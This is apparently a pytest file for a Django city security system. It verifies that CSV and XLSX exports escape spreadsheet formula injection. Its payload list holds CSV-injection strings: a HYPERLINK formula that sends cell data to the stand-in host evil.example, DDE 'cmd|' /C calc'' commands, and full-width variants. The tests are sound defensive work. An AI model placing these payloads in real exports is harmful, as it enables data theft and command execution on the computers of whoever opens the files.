"""Item 6 of the security review: text typed by units (or read from feeds) never comes
out as a live formula in a CSV or XLSX the city opens. Each export is produced for real
and read back with openpyxl / csv."""

from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from citysoc.directives import answering, issuing
from citysoc.lib.formulas import (
    FORMULA_STARTS,
    defuse_formula,
    is_formula_like,
    restore_defused,
)
from tests import factories

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Xem")'
PAYLOADS = [
    HYPERLINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '＝HYPERLINK("http://evil.example/")',  # noqa: RUF001 - the full-width forms on purpose
    "＋1+1",  # noqa: RUF001
    "－1+1",  # noqa: RUF001
    "＠SUM(1)",  # noqa: RUF001
]


@pytest.mark.parametrize("text", PAYLOADS)
def test_the_escaper_marks_every_formula_start_as_text_and_undoes_itself(text):
    assert is_formula_like(text)
    safe = defuse_formula(text)
    assert safe == "'" + text
    assert safe[:1] not in FORMULA_STARTS
    assert restore_defused(safe) == text


@pytest.mark.parametrize("value", ["Phường Bắc Sơn", "192.0.2.10", "-", "", 12, -3, None])
def test_plain_values_and_numbers_pass_unchanged(value):
    assert defuse_formula(value) == value


def _no_live_formula(cells) -> list:
    """Cells that a spreadsheet would read as a formula (or that openpyxl stored as one)."""
    bad = []
    for cell in cells:
        if cell.data_type == "f" or (isinstance(cell.value, str) and is_formula_like(cell.value)):
            bad.append(cell.value)
    return bad


def _all_cells(workbook):
    return [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row]


def _assert_payloads_inert(workbook, payloads=PAYLOADS):
    cells = _all_cells(workbook)
    assert _no_live_formula(cells) == []
    values = {c.value for c in cells}
    for text in payloads:
        assert "'" + text in values  # still there, as text


def test_the_compliance_city_export(client_as, city_admin, unit_a):
    from tests.compliance.test_overview import NOT_MET, approved, assess, make_library

    library = make_library()
    system = approved(unit_a, HYPERLINK)
    assess(system, library, {"1.1": NOT_MET}, completed=timezone.localdate(), owner="－1+1")  # noqa: RUF001
    response = client_as(city_admin).get(reverse("compliance:city-export"))
    assert response.status_code == 200
    _assert_payloads_inert(
        openpyxl.load_workbook(io.BytesIO(response.content)), [HYPERLINK, "－1+1"]
    )  # noqa: RUF001, E501


def test_the_directive_results_workbook(client_as, city, unit_a, city_admin):
    directive = factories.make_directive(city, items=1)
    directive.recipient_units.set([unit_a])
    issuing.issue(directive, by=None)
    for assignment in directive.assignments.all():
        answering.answer(assignment, by=None, status="in_progress", report=HYPERLINK)
    response = client_as(city_admin).get(f"/directives/{directive.pk}/report/xlsx/")
    assert response.status_code == 200, response.status_code
    _assert_payloads_inert(openpyxl.load_workbook(io.BytesIO(response.content)), [HYPERLINK])


def test_the_intel_task_export(client_as, city_admin, unit_a):
    from citysoc.intel.models import CleanupTask, IndicatorSource, ListVersion

    version = ListVersion.objects.create(
        source=IndicatorSource.objects.create(name="feed"), filename="x.csv", sha256="0" * 64
    )
    CleanupTask.objects.create(
        unit=unit_a,
        ip="192.0.2.10",
        family="@SUM(1+1)*cmd|' /C calc'!A0",
        due_date=dt.date(2027, 1, 1),
        opened_by_version=version,
        tool="+1+cmd|' /C calc'!A0",
        findings=HYPERLINK,
    )
    response = client_as(city_admin).get(reverse("intel:task-export"))
    assert response.status_code == 200
    _assert_payloads_inert(
        openpyxl.load_workbook(io.BytesIO(response.content)),
        [HYPERLINK, "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"],
    )


def _csv_rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body)))


def test_the_audit_csv(client_as, city_admin, unit_a):
    from citysoc.core.audit import acting_as

    with acting_as(city_admin, via="web"):
        factories.make_host(unit_a, hostname=HYPERLINK)
    response = client_as(city_admin).get(reverse("core:audit-list"), {"format": "csv"})
    rows = _csv_rows(response)
    cells = [c for row in rows[1:] for c in row]
    assert not [c for c in cells if is_formula_like(c)]
    assert any(c.startswith("'" + HYPERLINK) for c in cells)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_inventory_exports_include_the_minus_sign(client_as, officer_a, unit_a, fmt):
    factories.make_host(unit_a, hostname="-2+3+cmd|' /C calc'!A0")
    factories.make_host(unit_a, hostname="－1+1")  # noqa: RUF001
    response = client_as(officer_a).get(
        reverse("inventory:export"), {"kind": "hosts", "format": fmt}
    )
    if fmt == "csv":
        cells = [c for row in _csv_rows(response)[1:] for c in row]
        assert not [c for c in cells if is_formula_like(c)]
        assert {"'-2+3+cmd|' /C calc'!A0", "'－1+1"} <= set(cells)  # noqa: RUF001
    else:
        content = b"".join(response.streaming_content) if response.streaming else response.content
        workbook = openpyxl.load_workbook(io.BytesIO(content))
        _assert_payloads_inert(workbook, ["-2+3+cmd|' /C calc'!A0", "－1+1"])  # noqa: RUF001


def test_the_sensor_csv_defuses_feed_text():
    from citysoc.intel.sensors import SensorIndicator, plain_csv

    out = io.StringIO()
    plain_csv([SensorIndicator("198.51.100.7", "ipv4", "－1+1", "list")], out)  # noqa: RUF001
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[1][2] == "'－1+1"  # noqa: RUF001


def test_the_library_workbook_round_trips_a_formula_like_text(tmp_path):
    from citysoc.compliance import libraries, library_sheets

    doc = libraries.read_document(libraries.SHIPPED_DIR / "nd85-tt12-tcvn11930.yaml")
    doc["requirements"][0]["description"] = "-2+3 " + HYPERLINK
    xlsx = tmp_path / "library.xlsx"
    xlsx.write_bytes(library_sheets.export_workbook(doc))
    assert _no_live_formula(_all_cells(openpyxl.load_workbook(xlsx))) == []
    assert (
        libraries.read_document(xlsx)["requirements"][0]["description"]
        == doc["requirements"][0]["description"]
    )
